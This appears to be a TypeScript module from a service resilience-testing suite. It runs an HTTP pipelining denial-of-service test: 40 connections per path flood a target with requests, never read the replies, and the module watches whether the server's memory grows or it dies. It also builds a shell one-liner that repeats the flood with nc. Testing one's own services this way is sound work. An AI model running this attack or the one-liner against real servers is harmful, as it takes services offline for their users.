import { setTimeout as sleep } from 'node:timers/promises';
import { onTheWire } from '../support/raw-http.js';
import type { Attack, Finding } from './attack.js';
import { Behaving } from './behaving.js';
import { asking, BYTES, openTo, Stranger } from './stranger.js';
import type { Target } from './target.js';

/** What anybody may ask for: large, larger, and out of the database. */
const PATHS = ['/api/docs-json', '/api/docs/swagger-ui-bundle.js', '/api/doctors/public'];
/** For each path. */
const CONNECTIONS = 40;
const CONNECT_WITHIN_MS = 5_000;
const OPEN_AT_MOST_SECONDS = 40;
/** More than it had before. */
const GROWS_AT_MOST_MIB = 600;

/** What they ask for must be there to ask for. */
async function control(target: Target): Promise<void> {
  for (const path of PATHS) {
    const { status } = await onTheWire(target.url, asking(path, 'Connection: close'));
    if (status !== 200) throw new Error(`${path} is not served to anybody: ${status}`);
  }
}

/** Connects them all, and has them ask. */
async function strangersFor(target: Target, path: string): Promise<Stranger[]> {
  const strangers = Array.from({ length: CONNECTIONS }, () => new Stranger(target, path));
  const until = performance.now() + CONNECT_WITHIN_MS;
  while (strangers.some(({ port }) => port === 0) && performance.now() < until) await sleep(20);
  return strangers;
}

interface Watched {
  /** How much more memory than before it had at most, in MiB; undefined where it died. */
  readonly grown: number | undefined;
  /** How many of the connections were open at the end. */
  readonly open: number;
  readonly seconds: number;
}

/** Until all are closed, or something is found; no longer than a silent connection may last. */
async function watch(target: Target, strangers: readonly Stranger[], behaving: Behaving): Promise<Watched> {
  const began = performance.now();
  const before = target.memoryMiB ?? 0;
  let grown = 0;
  for (;;) {
    await sleep(100);
    const memory = target.memoryMiB;
    const ports = openTo(target);
    const open = strangers.filter(({ port }) => ports.has(port)).length;
    const seconds = (performance.now() - began) / 1000;
    if (memory === undefined) return { grown: undefined, open, seconds };
    grown = Math.max(grown, memory - before);
    const isOver = open === 0 || seconds > OPEN_AT_MOST_SECONDS;
    if (isOver || grown > GROWS_AT_MOST_MIB || behaving.failed > 0) return { grown, open, seconds };
  }
}

function wrongWith({ grown, open, seconds }: Watched, { answered, failed }: Behaving): string[] {
  const wrong: string[] = [];
  if (grown === undefined) wrong.push('it died');
  else if (grown > GROWS_AT_MOST_MIB) wrong.push(`its memory grew by ${Math.round(grown)} MiB`);
  if (failed > 0) wrong.push(`another client was answered ${answered} times, and ${failed} times not`);
  if (seconds > OPEN_AT_MOST_SECONDS) wrong.push(`${open} of ${CONNECTIONS} silent connections were open`);
  return wrong;
}

function repeat({ url }: Target, path: string): string {
  const { hostname, port } = new URL(url);
  const request = `$(printf 'GET ${path} HTTP/1.1\\r\\nHost: x\\r\\n\\r')`;
  const asked = `(yes "${request}" | head -c ${BYTES}; sleep 60)`;
  return `for i in $(seq ${CONNECTIONS}); do ${asked} | nc ${hostname} ${port} | sleep 60 & done`;
}

/** All of them for one path; throws where they did not do what they are to do. */
async function attack(target: Target, path: string): Promise<{ watched: Watched; found: Finding[] }> {
  const behaving = new Behaving(target);
  const strangers = await strangersFor(target, path);
  try {
    const watched = await watch(target, strangers, behaving);
    await behaving.stop();
    const wrong = wrongWith(watched, behaving);
    // Whoever was hung up on may not have got rid of all; what did harm was sent.
    const count = strangers.filter(({ port, hasSent, hasRead }) => port !== 0 && hasSent && !hasRead).length;
    if (wrong.length === 0 && count < CONNECTIONS)
      throw new Error(
        `only ${count} of ${CONNECTIONS} connected to ask for ${path}, asked, and did not read`,
      );
    const found = wrong.map((what) => ({
      what: `${Math.round(watched.seconds)} s after strangers asked for ${path} and did not read, ${what}`,
      repeat: repeat(target, path),
    }));
    return { watched, found };
  } finally {
    await behaving.stop();
    for (const stranger of strangers) stranger.end();
  }
}

/** Strangers who ask for much at once, and read none of it. */
export const pipelining: Attack = {
  name: 'pipelining',
  about: `${CONNECTIONS} connections of strangers, each with ${BYTES / 1024} KB of requests at once, that never read an answer`,
  async run(target) {
    await control(target);
    const findings: Finding[] = [];
    const told: string[] = [];
    for (const path of PATHS) {
      const { watched, found } = await attack(target, path);
      const mib = Math.round(watched.grown ?? 0);
      told.push(`${path} in ${watched.seconds.toFixed(1)} s, ${mib} MiB more`);
      findings.push(...found);
      // Whoever is down cannot be brought down by the next.
      if (found.length > 0) break;
    }
    return {
      tried: told.length * CONNECTIONS,
      findings,
      note: `${findings.length === 0 ? 'all hung up on' : 'watched'}: ${told.join('; ')}`,
    };
  },
};
